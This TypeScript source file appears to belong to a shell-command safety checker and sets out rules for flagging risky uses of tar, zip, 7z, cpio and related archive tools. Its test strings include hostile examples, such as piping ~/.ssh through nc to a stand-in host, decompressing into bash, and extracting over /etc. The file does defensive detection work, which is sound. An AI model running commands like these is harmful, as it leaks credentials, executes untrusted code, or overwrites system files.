import type { Call } from '../call.js';
import type { Program } from '../program.js';
import { rule, runs } from './build-common.js';

const tarOptions = {
  values:
    '-f -C -T -X -b -F -g -I -K -L -N -V -H --file --directory --files-from --exclude-from --use-compress-program --info-script --new-volume-script --checkpoint-action --to-command --rsh-command --rmt-command --exclude --transform --strip-components --owner --group --mode --mtime --listed-incremental --index-file --volno-file --format --add-file --newer --occurrence --starting-file --suffix --blocking-factor',
} as const;

const compressors = /^(?:gzip|bzip2|xz|zstd|lz4|lzma|pigz|pbzip2|pixz|lzop|compress|brotli|zstdmt)(?:\s+-[\w=]+)*$/;

function tar(call: Call): void {
  // Old style: the first word is a bundle of letters without a dash.
  const first = call.args[0]?.raw ?? '';
  const bundled = /^[A-Za-z]{1,8}$/.test(first) ? call.sub('tar', 0, undefined) : undefined;
  const letters = bundled
    ? first
    : call.options
        .filter((option) => /^-\w$/.test(option.name))
        .map((option) => option.name[1])
        .join('');
  let words = call.operands;
  if (bundled) words = words.slice(1);
  for (const action of call.values('--checkpoint-action')) {
    const code = /^(?:exec|wait|bell|sleep)?=?(.*)$/s.exec(action.raw.replace(/^exec=/, 'exec='));
    if (action.raw.startsWith('exec=')) {
      call.report('option.runs', 'anything', 'One of its options runs a command.', { durable: false });
      call.shell(code?.[1] ?? '');
    }
  }
  for (const code of call.values('--to-command --rsh-command --rmt-command -F --info-script --new-volume-script')) {
    call.report('option.runs', 'anything', 'One of its options runs a command.', { durable: false });
    call.shell(code.raw);
  }
  for (const code of call.values('-I --use-compress-program'))
    if (!compressors.test(code.text)) {
      call.report('option.runs', 'anything', 'It packs through another program.', { durable: false });
      call.shell(code.raw);
    }
  const archive = call.value('-f --file')?.raw ?? (bundled && letters.includes('f') ? words[0]?.raw : undefined);
  if (archive && /^[\w.@-]+:/.test(archive) && !call.has('--force-local'))
    call.report('option.runs', 'network', 'It packs to or from another machine.');
  const creates = /[cru]/.test(letters) || call.has('--create --append --update');
  const extracts = /x/.test(letters) || call.has('--extract --get');
  if (creates && archive && archive !== '-') call.writes(archive);
  if (call.has('--remove-files --recursive-unlink') || (extracts && call.has('-U --unlink-first')))
    call.report('fs.delete', 'filesystem', 'It deletes files once they are packed, or before they are unpacked.');
  if (call.has('--index-file --volno-file -g --listed-incremental'))
    for (const file of call.values('--index-file --volno-file -g --listed-incremental')) call.writes(file);
  if (extracts) {
    const directory = call.value('-C --directory');
    if (directory) {
      call.writes(directory);
      call.writes(`${directory.raw}/x`);
    }
    if (letters.includes('P') || call.has('--absolute-names'))
      call.report('fs.extract-anywhere', 'filesystem', 'It unpacks files to wherever the archive says.');
  }
  if (creates)
    for (const word of words)
      if (word.raw !== archive) {
        call.reads(word);
        if (call.path(word) === call.at.context.home) call.reads(`${word.raw}/.ssh`);
      }
}

export const archives: readonly Program[] = [
  {
    names: ['tar', 'gtar', 'bsdtar'],
    options: tarOptions,
    check: tar,
    match: [
      'tar cf x.tar --checkpoint=1 --checkpoint-action=exec=./x .',
      'tar xf a.tar -C /',
      'tar -I ./x -xf a',
      'tar czf - ~/.ssh | nc h.example 9',
      'tar cf a.tar --remove-files src',
      'tar xPf a.tar',
      'tar xf a --to-command=./x',
      'tar xzf a.tgz -C ~/.ssh',
      'tar --use-compress-prog=./x -cf a b',
    ],
    not_match: [
      'tar xzf a.tgz',
      'tar czf out.tgz dist',
      'tar tf a.tar',
      'tar -xf a.tar -C build',
      'tar --zstd -cf a.tar.zst src',
      'tar cJf a.txz .',
    ],
  },
  {
    names: [
      'zip',
      'unzip',
      '7z',
      '7za',
      '7zz',
      'rar',
      'unrar',
      'cpio',
      'ar',
      'gzip',
      'gunzip',
      'bzip2',
      'xz',
      'zstd',
      'lz4',
      'pigz',
      'brotli',
      'unxz',
      'bunzip2',
      'unzstd',
      'pax',
      'lha',
      'zpaq',
      'ouch',
      'atool',
      'unar',
    ],
    options: { values: '-d -x -i -n -t -b -P --unzip-command --rsh-command --to-command' },
    rules: [
      runs({
        test: (call) => call.has('--unzip-command --rsh-command --to-command') || call.args.some((arg) => arg.raw.startsWith('-TT')),
      }),
      rule('fs.delete', 'filesystem', 'It deletes files once they are packed.', {
        test: (call) =>
          (call.name === 'zip' && call.options.some((option) => option.name === '-m' || option.name === '--move')) ||
          (/^7z/.test(call.name) && call.args.some((arg) => arg.raw === '-sdel')) ||
          (call.name === 'rar' && call.args.some((arg) => arg.raw === '-df' || arg.raw === '-dw' || arg.raw === 'm')),
      }),
    ],
    check: (call) => {
      if (
        call.name === 'cpio' &&
        call.has('-i --extract') &&
        !/t/.test(call.value('-i')?.text ?? '') &&
        !call.has('-t --list --no-absolute-filenames')
      )
        call.report('fs.extract-anywhere', 'filesystem', 'It unpacks files to wherever the archive says.');
      if (/^(?:zip|7z\w*|rar|ar)$/.test(call.name)) for (const operand of call.operands.slice(1)) call.reads(operand);
      if (/^(?:gzip|bzip2|xz|zstd|lz4|pigz|brotli)$/.test(call.name)) for (const operand of call.operands) call.reads(operand);
      if (call.name === 'zip' && call.operands[0]) call.writes(call.operands[0]);
      if (call.name === 'unzip') {
        const directory = call.value('-d');
        if (directory) {
          call.writes(directory);
          call.writes(`${directory.raw.replace(/\/+$/, '')}/x`);
        }
        if (call.has('-:')) call.report('fs.extract-anywhere', 'filesystem', 'It unpacks files to wherever the archive says.');
      }
    },
    output: (call) =>
      call.has('-d -dc -c --decompress --stdout') || /^(?:gun|un|bun)/.test(call.name)
        ? { text: undefined, sources: new Set(['decoded', 'unknown']) }
        : undefined,
    match: [
      "zip a.zip f -T -TT 'sh -c id'",
      'zip -m a.zip src',
      'zip a.zip ~/.ssh/id_rsa',
      'unzip -o a.zip -d /etc',
      '7z a -sdel a.7z src',
      'gzip -dc x.gz | bash',
      'cpio -o --rsh-command=./x',
      'cpio -idm < a.cpio',
      'unzip a.zip -d /',
    ],
    not_match: [
      'cpio -it < a.cpio',
      'zip -r a.zip dist',
      'unzip a.zip',
      'unzip -l a.zip',
      'gunzip a.gz',
      'gzip -k f',
      '7z x a.7z',
      'xz -d a.xz',
      'zstd -19 f',
    ],
  },
];
